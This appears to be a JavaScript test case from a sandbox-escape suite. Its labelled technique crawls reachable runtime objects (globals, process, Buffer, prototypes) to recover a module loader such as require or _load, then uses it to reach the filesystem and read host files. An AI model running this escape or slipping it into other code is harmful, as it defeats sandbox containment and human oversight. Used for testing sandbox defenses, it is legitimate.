// technique: search everything that can be reached for a loader
// family: B
// severity: H
// layers: policy, mount_namespace, landlock
const seen = new Set();
const roots = [globalThis, typeof module === 'object' ? module : 0, typeof require === 'function' ? require : 0, console, process, Error, Buffer];
function works(f) {
  try { return typeof f('fs').readFileSync === 'function'; } catch { return false; }
}
function search() {
  let level = roots;
  for (let depth = 0; depth < 6; depth++) {
    const next = [];
    for (const one of level) {
      if (one === null || typeof one !== 'object' && typeof one !== 'function' || seen.has(one) || seen.size > 20000) continue;
      seen.add(one);
      next.push(Object.getPrototypeOf(one));
      for (const key of Reflect.ownKeys(one)) {
        const d = Object.getOwnPropertyDescriptor(one, key);
        let value = d.value;
        try { if (d.get) value = one[key]; } catch { continue; }
        if (typeof value === 'function' && ['require', '_load', 'getBuiltinModule', 'load', 'binding'].includes(key)) {
          if (works((name) => Reflect.apply(value, one, [name]))) return (name) => Reflect.apply(value, one, [name]);
        }
        next.push(value, d.get, d.set);
      }
    }
    level = next;
  }
  throw new Error(`none among ${seen.size} objects`);
}
readHost(search);
